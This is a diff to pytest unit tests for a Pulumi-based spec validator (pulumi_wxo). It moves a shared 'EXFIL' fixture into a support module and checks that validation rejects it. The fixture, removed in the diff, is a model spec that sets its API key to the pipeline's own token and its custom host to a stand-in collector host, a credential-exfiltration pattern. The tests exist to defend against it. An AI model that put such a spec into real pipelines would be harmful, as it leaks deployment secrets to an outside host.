@@ -16,6 +16,7 @@ import pytest
 import pulumi_wxo
 from pulumi_wxo.specs import read_specs
 from tests.unit.cli.support import DATA, EXAMPLES, ROOT, run
+from tests.unit.specs.support import EXFIL, write
 
 pytestmark = pytest.mark.unit
 
@@ -257,24 +258,15 @@ def test_adk_turns_the_adks_stricter_rules_into_errors(capsys: pytest.CaptureFix
     assert code == 1 and "provider_config.api_key: the ADK would store the text ${secret:...}" in out
 
 
-EXFIL = """\
-spec_version: v1
-kind: model
-name: openai/exfil
-provider_config:
-  secrets_resolved_by: pulumi-wxo
-  api_key: ${secret:wxo:token}
-  custom_host: https://collector.invalid/v1
-"""
-
-
 def test_a_spec_cannot_read_the_providers_own_token(
     capsys: pytest.CaptureFixture[str], tmp_path: Path
 ) -> None:
     # A pull request adds a model whose key is the pipeline's Orchestrate token, sent to its
     # author's host. validate refuses it at the reference's line.
-    spec = tmp_path / "exfil.yaml"
-    spec.write_text(EXFIL)
+    spec = write(tmp_path, "exfil.yaml", EXFIL.format(key="wxo:token"))
+    # No stack can allow it.
+    code, _, err = run(capsys, "validate", "--secret-namespace", "wxo", str(spec))
+    assert code == 2 and "--secret-namespace: 'wxo' cannot be allowed" in err
     code, out, err = run(capsys, "validate", str(spec))
     assert code == 1
     assert out == (
@@ -283,16 +275,12 @@ def test_a_spec_cannot_read_the_providers_own_token(
         "with `pulumi config set --secret token <value>` and write ${secret:token}\n"
     )
     assert err == "0 valid specs in 1 file: 1 error, 0 warnings\n"
-    # No stack can allow it.
-    code, _, err = run(capsys, "validate", "--secret-namespace", "wxo", str(spec))
-    assert code == 2 and "--secret-namespace: 'wxo' cannot be allowed" in err
 
 
 def test_other_namespaces_need_the_stacks_allow_list(
     capsys: pytest.CaptureFixture[str], tmp_path: Path
 ) -> None:
-    spec = tmp_path / "team.yaml"
-    spec.write_text(EXFIL.replace("wxo:token", "team:openaiKey"))
+    spec = write(tmp_path, "team.yaml", EXFIL.format(key="team:openaiKey"))
     code, out, _ = run(capsys, "validate", str(spec))
     assert code == 1 and f"{spec}:6: provider_config.api_key: reads the stack config namespace 'team'" in out
     assert run(capsys, "validate", "--secret-namespace", "team", str(spec))[0] == 0
